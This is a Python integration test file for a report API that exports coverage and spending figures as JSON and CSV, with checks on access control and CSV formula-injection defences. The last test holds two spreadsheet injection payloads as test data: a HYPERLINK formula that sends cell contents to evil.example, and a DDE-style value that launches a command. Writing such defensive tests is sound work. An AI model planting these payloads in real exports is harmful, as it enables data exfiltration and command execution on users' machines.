"""Reports over HTTP: JSON and CSV from the counters the stream consumer keeps, the population that makes the
shares, and who may see what. The figures themselves are checked against the tables in test_reports."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from chalice.test import Client

from chalicelib.services import streams
from chalicelib.storage import aggregates
from chalicelib.storage.models import ProgramRecord, ProviderRecord
from devtools.streams import StreamPoller
from functions import runtime
from tests.integration.test_contracts_http import PRICE, enrolled  # noqa: F401 - the fixture
from tests.integration.test_http import call, payload
from tests.integration.test_parents_http import charged_month


@pytest.fixture
def poller(api: Client) -> StreamPoller:
    """The consumer over what the tables' streams get from now on (ask for it before the world is built)."""
    aggregates.forget_cache()
    return StreamPoller(lambda records: streams.consume(runtime.context(), records), start="latest")


def test_an_operator_reads_coverage_and_spending_as_json_and_csv_and_sets_the_population(
    api: Client,
    poller: StreamPoller,
    enrolled: dict[str, Any],  # noqa: F811 - the fixture
) -> None:
    charged_month(api, enrolled)
    population = {"children_population": {"elizovo": 40}}
    set_it = call(api, "PUT", "/periods/2027/population", population, enrolled["region"])
    assert set_it.status_code == 200, set_it.body
    poller.drain()

    coverage = call(api, "GET", "/reports/coverage?municipality=elizovo&period_id=2027", None, enrolled["region"])
    assert coverage.status_code == 200, coverage.body
    figures = payload(coverage)
    assert (figures["certificates"], figures["funded"], figures["with_active_contract"]) == (1, 1, 1)
    assert figures["children_population"] == 40
    assert figures["shares"] == {"certificates": 0.025, "funded": 0.025, "with_active_contract": 0.025}

    spending = payload(call(api, "GET", "/reports/spending?period_id=2027&group_by=month", None, enrolled["region"]))
    assert [(row["key"], row["spent_kopecks"]) for row in spending["rows"]] == [("2027-03", PRICE)]
    as_csv = call(api, "GET", "/reports/spending?period_id=2027&group_by=provider&format=csv", None, enrolled["region"])
    assert as_csv.status_code == 200 and as_csv.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.body.decode("utf-8").lstrip("\ufeff"))))
    assert any(str(PRICE) in row.values() for row in rows), rows

    quota = payload(call(api, "GET", "/reports/quota?period_id=2027", None, enrolled["region"]))
    assert (quota["quota"], quota["funded"]) == (2, 1)


def test_reports_are_for_the_operators_of_the_municipality_and_the_region(
    api: Client,
    enrolled: dict[str, Any],  # noqa: F811 - the fixture
) -> None:
    path = "/reports/coverage?municipality=elizovo&period_id=2027"
    for who, status, code in (
        (enrolled["parent"], 403, "forbidden"),
        (enrolled["provider"], 403, "forbidden"),
        (enrolled["milkovo"], 403, "forbidden"),
        ({}, 401, "unauthenticated"),
    ):
        response = call(api, "GET", path, None, who)
        assert (response.status_code, payload(response)["error"]["code"]) == (status, code), response.body
    unknown = call(api, "GET", "/reports/coverage?period_id=1999", None, enrolled["region"])
    assert (unknown.status_code, payload(unknown)["error"]["code"]) == (404, "period_not_found")
    wrong = call(api, "GET", "/reports/spending?group_by=colour", None, enrolled["region"])
    assert (wrong.status_code, payload(wrong)["error"]["code"]) == (422, "validation_error")
    refused = call(api, "PUT", "/periods/2027/population", {"children_population": {"elizovo": 5}}, enrolled["milkovo"])
    assert (refused.status_code, payload(refused)["error"]["code"]) == (403, "forbidden")


# What a spreadsheet would run: a program's title and a provider's name, as a provider may type them.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
FORMULA_PROVIDER = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.body
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.body.decode("utf-8").lstrip("\ufeff"))))


def test_no_csv_the_api_writes_holds_a_cell_a_spreadsheet_would_run_as_a_formula(
    api: Client,
    poller: StreamPoller,
    enrolled: dict[str, Any],  # noqa: F811 - the fixture
) -> None:
    """Every report route (spending by each grouping) and the statement, with a program titled as a formula and a
    provider named as one: the text is kept, neutralised by a leading apostrophe; money and counts stay numbers."""
    ProgramRecord(enrolled["program"], "program").update(
        actions=[ProgramRecord.title.set(FORMULA_TITLE), ProgramRecord.provider_name.set(FORMULA_PROVIDER)]
    )
    ProviderRecord("7707083893").update(actions=[ProviderRecord.name.set(FORMULA_PROVIDER)])
    charged_month(api, enrolled)
    poller.drain()
    region, parent = enrolled["region"], enrolled["parent"]
    reports = [
        "coverage",
        "quota",
        "expired",
        *(f"spending&group_by={g}" for g in ("provider", "program", "direction", "month")),
    ]
    tables = {}
    for report in reports:
        route, _, grouping = report.partition("&")
        path = f"/reports/{route}?format=csv&period_id=2027" + (f"&{grouping}" if grouping else "")
        tables[report] = _csv_cells(call(api, "GET", path, None, region))
    statement = f"/certificates/{enrolled['certificate']}/statement?format=csv"
    tables["statement"] = _csv_cells(call(api, "GET", statement, None, parent))
    for name, rows in tables.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (name, row)
    cells = {name: [cell for row in rows for cell in row] for name, rows in tables.items()}
    assert "'" + FORMULA_PROVIDER in cells["spending&group_by=provider"]
    assert "'" + FORMULA_TITLE in cells["spending&group_by=program"]
    assert {"'" + FORMULA_PROVIDER, "'" + FORMULA_TITLE} <= set(cells["statement"])
    # Amounts and counts are plain numbers a spreadsheet sums.
    by_program = tables["spending&group_by=program"]
    header, first = by_program[0], by_program[1]
    assert first[header.index("spent_kopecks")] == str(PRICE) and first[header.index("charges")] == "1"
    movements = tables["statement"]
    assert all(row[3].isdigit() for row in movements[1:] if len(row) > 3 and row[0][:1].isdigit())
